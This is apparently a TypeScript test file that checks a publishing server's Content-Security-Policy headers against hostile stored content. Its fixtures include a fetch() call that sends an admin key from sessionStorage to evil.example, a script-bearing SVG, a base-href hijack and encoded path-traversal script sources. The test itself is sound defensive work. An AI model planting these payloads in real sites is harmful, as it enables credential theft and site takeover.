// What runs on the origin of the desk: every kind of answer of the companion server, as a browser opens it. Nothing that
// somebody wrote runs, whether it stands in a page, an imported file, or a file that lies in the output.
import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { type Served, serve } from '../unit/serve/server/harness.ts';

const BROWSER = { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' };
const OWN = 'document.title += "!";\n';
const EVIL = 'fetch("//evil.example/" + sessionStorage["prepress-admin-key"])\n';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${EVIL}</script></svg>`;
const HOSTILE = `<!DOCTYPE html><html><head><base href="//evil.example/">
<script src="/b/assets/site.js" defer></script><script type="application/ld+json">{}</script></head><body>
<script>${EVIL}</script><script src="/b/content/files/x.js"></script><script src=/b/desk/desk.js></script>
<script src='/b/assets/../content/files/x.js'></script><script src="/b/%63ontent/files/x.js"></script>
<script src="/b/assets/..%2fcontent/files/x.js"></script><script src="//evil.example/assets/site.js"></script>
<script src="/b/%zz.js"></script><script src="/b/docs/swagger-ui-bundle.js"></script>
<iframe src="/b/desk/"></iframe></body></html>\n`;
const PLAIN = '<!DOCTYPE html><title>Plain</title><script src="assets/site.js"></script>\n';

const FILES: Readonly<Record<string, string>> = {
  'index.html': PLAIN,
  'hostile/index.html': HOSTILE,
  'own.html': HOSTILE,
  'old.htm': HOSTILE,
  '404.html': HOSTILE,
  'assets/site.js': OWN,
  'drawing.svg': SVG,
  'feed.atom': '<?xml version="1.0"?><feed/>\n',
  'page.xhtml': SVG,
  'content/manifest.json': '{}',
  'content/index.html': HOSTILE,
  'content/other.html': HOSTILE,
  'content/404.json': '{"errors":[]}',
  'content/files/x.js': EVIL,
  'content/files/x.html': HOSTILE,
  'content/images/x.svg': SVG,
  'content/media/x.json': '{}',
};

const serveHostile = async (): Promise<Served> => {
  const served = await serve({ flags: { basePath: '/b', authFailuresMax: 1_000_000 } });
  for (const [file, text] of Object.entries(FILES)) served.put(`b/${file}`, text);
  return served;
};

type Directives = ReadonlyMap<string, string>;

const directivesOf = (response: Response): Directives =>
  new Map(
    (response.headers.get('content-security-policy') ?? '').split(/ *; */).map((text) => {
      const [name = '', ...values] = text.split(' ');
      return [name, values.join(' ')];
    }),
  );

const DIGESTS = /^(?:'none'|'sha256-[A-Za-z0-9+/=]+'(?: 'sha256-[A-Za-z0-9+/=]+')*)$/;

/** What a browser would let a document of this answer do. */
const findFaults = (response: Response, isDesk: boolean): string[] => {
  const directives = directivesOf(response);
  const allowed = (name: string): string =>
    directives.get(name) ?? directives.get('default-src') ?? '*';
  const [scripts, frames] = [allowed('script-src'), allowed('frame-src')];
  const isSandboxed = directives.get('sandbox') === '';
  const wanted: [fault: string, isHeld: boolean][] = [
    ['is sniffed', response.headers.get('x-content-type-options') === 'nosniff'],
    ['runs scripts', DIGESTS.test(scripts) || (isDesk && scripts === "'self'")],
    ['has plug-ins', allowed('object-src') === "'none'" || isSandboxed],
    // Embeds of posts, which have origins of their own.
    ['shows frames', frames === "'none'" || (isDesk && frames === 'https:')],
    ['has workers', isDesk || isSandboxed || allowed('worker-src') === "'none'"],
    ['has another base', directives.get('base-uri') === "'none'"],
    ['sends forms', /^'(?:none|self)'$/.test(directives.get('form-action') ?? '')],
    ['is framed', isSandboxed || directives.get('frame-ancestors') === "'none'"],
  ];
  return wanted.filter(([, isHeld]) => !isHeld).map(([fault]) => fault);
};

/** Browsers show these as text. */
const DATA = /^(?:application\/json|text\/plain)/;

test('no answer of the desk’s origin runs what somebody wrote', async () => {
  const served = await serveHostile();
  const { get, contentKey } = served;
  const paths = [
    ...Object.keys(FILES).map((file) => `/b/${file.replace(/(^|\/)index\.html$/, '$1')}`),
    ...['/b/nothing/', '/b/desk/', '/b/desk/none.js', '/b/docs/', '/b/docs/none', '/b/admin/none/'],
    ...['/b/admin/posts/', '/b/admin/site/', '/b/unsubscribe/?uuid=a&key=b', '/b/%zz', '/health'],
    ...['/b/newsletters/verify/?token=a', '/b/hooks/build/none/', '/b/desk', '/b/hostile', '/b'],
    ...[
      '/b/content/posts/',
      `/b/content/posts/?key=${contentKey}`,
      '/b/content/posts',
      '/elsewhere',
    ],
    ...['/b/ghost/api/content/', '/b/ghost/api/content/files/x.html', '/b/docs/content.json'],
  ];
  const faults: string[] = [];
  for (const path of paths) {
    for (const headers of [BROWSER, {}]) {
      const response = await get(path, { headers });
      const type = response.headers.get('content-type') ?? '';
      const isEmpty = (await response.text()) === '' && response.status !== 200;
      if (isEmpty || (DATA.test(type) && response.headers.has('x-content-type-options'))) continue;
      const isDesk = /^\/b\/(?:desk|docs)(?:\/|$)/.test(path);
      for (const fault of findFaults(response, isDesk))
        faults.push(`${path} ${response.status} ${type} ${fault}`);
    }
  }
  expect(faults).toEqual([]);
});

test('a page runs the site’s own scripts by their digest, and says what it leaves out', async () => {
  const { get } = await serveHostile();
  const digest = `sha256-${createHash('sha256').update(OWN).digest('base64')}`;
  for (const [path, isNoted] of [
    ['/b/', false],
    ['/b/hostile/', true],
    ['/b/own.html', true],
    ['/b/content/', true],
    ['/b/nothing/', true],
  ] as const) {
    const page = await get(path);
    const html = await page.text();
    expect([path, directivesOf(page).get('script-src')]).toEqual([path, `'${digest}'`]);
    expect([path, ...html.matchAll(/<script integrity=[^>]*>/g)].flat()).toEqual([
      path,
      expect.stringMatching(/^<script integrity="sha256-[^"]+" src="(?:\/b\/)?assets\/site\.js"/),
    ]);
    expect([path, html.includes('are left out here')]).toEqual([path, isNoted]);
  }
});
